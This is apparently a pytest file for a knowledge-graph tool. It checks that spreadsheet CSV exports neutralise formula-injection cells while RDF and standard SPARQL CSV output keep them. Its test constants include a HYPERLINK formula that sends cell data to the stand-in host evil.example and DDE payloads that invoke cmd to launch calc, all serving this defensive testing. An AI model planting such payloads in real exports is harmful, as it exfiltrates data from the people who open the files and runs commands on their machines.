"""Issue 21 §6: CSV files meant for spreadsheets neutralise formulas; the endpoint's CSV and the RDF do not.

OWASP's CSV-injection guidance: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return gets a single quote in front; a number (a negative amount) stays a number.
"""

from __future__ import annotations

import csv
import io
import urllib.parse
import urllib.request
from pathlib import Path

import pyoxigraph as ox
import pytest
from loopback import threaded
from rdflib import RDF, Literal, URIRef
from typer.testing import CliRunner

from kg.cli import app
from kg.export.single import export
from kg.export.tables import write_tables
from kg.namespaces import EKG
from kg.sparql import output, results
from kg.sparql.queries import Result
from kg.sparql.serve import ServerConfig, make_server
from kg.store import in_memory_copy

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CALC = "@SUM(1+1)*cmd|' /C calc'!A0"
ATTACKS = [HYPERLINK, CALC, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
NUMBERS = ["-12.5", "+7", "-3", "1e-3"]
PLAIN = ["Timișoara", "a = b", "user@example.org", ""]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_text_cells_that_start_a_formula_get_a_quote() -> None:
    for value in ATTACKS:
        assert output.spreadsheet_cell(value) == "'" + value
    for value in NUMBERS + PLAIN:
        assert output.spreadsheet_cell(value) == value


def test_spreadsheet_csv_of_a_result_and_the_standard_csv() -> None:
    rows = [(Literal(value), Literal(-12.5), URIRef("http://example.org/a")) for value in ATTACKS]
    result = Result(["text", "amount", "iri"], rows)
    spreadsheet = _cells(results.to_spreadsheet_csv(result))
    assert [row[0] for row in spreadsheet[1:]] == ["'" + value for value in ATTACKS]
    assert {row[1] for row in spreadsheet[1:]} == {"-12.5"}
    kept = Result(result.columns, [row for row in rows if "\r" not in row[0]])  # to_csv leaves a CR unquoted
    assert [row[0] for row in _cells(results.to_csv(kept))[1:]] == [row[0].value for row in kept.rows]
    assert results.spreadsheet_csv(["a"], [[HYPERLINK], [None]]) == results.to_spreadsheet_csv(
        Result(["a"], [(Literal(HYPERLINK),), (None,)]))


def _values_query(tmp_path: Path) -> Path:
    """A query whose rows are the attacks, numbers and plain texts, as typed and plain literals."""
    cells = [ox.Literal(v) for v in ATTACKS + PLAIN] + [ox.Literal(v, datatype=ox.NamedNode(
        "http://www.w3.org/2001/XMLSchema#decimal")) for v in ("-12.5", "-3.0")] + [ox.Literal("-12.5")]
    rows = " ".join(f"({cell})" for cell in cells)  # terms serialised by pyoxigraph, not by hand
    path = tmp_path / "cells.rq"
    path.write_text(f"SELECT ?cell WHERE {{ VALUES (?cell) {{ {rows} }} }}", encoding="utf-8")
    return path


def test_eukg_query_csv_neutralises_formulas(built_store_path: Path, tmp_path: Path) -> None:
    query = _values_query(tmp_path)
    result = CliRunner().invoke(app, ["query", str(query), "--format", "csv", "--store", str(built_store_path)])
    assert result.exit_code == 0, result.output
    cells = [row[0] if row else "" for row in _cells(result.stdout)[1:]]
    for value in ATTACKS:
        assert "'" + value in cells and value not in cells
    assert cells.count("-12.5") == 2 and "-3" in cells  # numbers stay numbers
    assert all(value in cells for value in PLAIN)


@pytest.fixture(scope="module")
def attacked(store) -> ox.Store:
    """An in-memory copy of the built store with a project whose acronym and name are formulas."""
    copy = in_memory_copy(store)
    project = ox.NamedNode("https://w3id.org/eu-regional-kg/id/project/injected")
    graph = ox.NamedNode("https://w3id.org/eu-regional-kg/source/injected")
    copy.extend([
        ox.Quad(project, ox.NamedNode(str(RDF.type)), ox.NamedNode(str(EKG.Project)), graph),
        ox.Quad(project, ox.NamedNode(str(EKG.acronym)), ox.Literal(CALC), graph),
        ox.Quad(project, ox.NamedNode("http://www.w3.org/2004/02/skos/core#prefLabel"),
                ox.Literal(HYPERLINK, language="en"), graph),
    ])
    return copy


def test_release_csv_files_neutralise_formulas_and_the_rdf_keeps_them(attacked: ox.Store, tmp_path: Path) -> None:
    write_tables(attacked, tmp_path / "csv")
    rows = _cells((tmp_path / "csv" / "projects.csv").read_text(encoding="utf-8"))
    injected = [row for row in rows if row[0].endswith("/project/injected")]
    assert injected and injected[0][1] == "'" + CALC and injected[0][2] == "'" + HYPERLINK
    for path in (tmp_path / "csv").glob("*.csv"):
        for row in _cells(path.read_text(encoding="utf-8"))[1:]:
            for cell in row:
                assert not cell.startswith(("=", "@", "\t", "\r")), (path.name, cell)
    export(attacked, tmp_path / "all.nt", "nt")
    triples = list(ox.parse(path=str(tmp_path / "all.nt"), format=ox.RdfFormat.N_TRIPLES))
    assert {t.object.value for t in triples if t.subject.value.endswith("/project/injected")} >= {CALC, HYPERLINK}


def test_the_endpoint_csv_stays_standard_sparql_csv(attacked: ox.Store) -> None:
    server = make_server(attacked, "127.0.0.1", 0, ServerConfig(timeout=20))
    query = "SELECT ?a WHERE { <https://w3id.org/eu-regional-kg/id/project/injected> " \
            "<https://w3id.org/eu-regional-kg/ontology#acronym> ?a }"
    with threaded(server) as url:
        request = urllib.request.Request(f"{url}/sparql", data=urllib.parse.urlencode({"query": query}).encode(),
                                         headers={"Accept": "text/csv"})
        with urllib.request.urlopen(request, timeout=30) as response:
            body = response.read().decode("utf-8")
    assert _cells(body)[1] == [CALC]
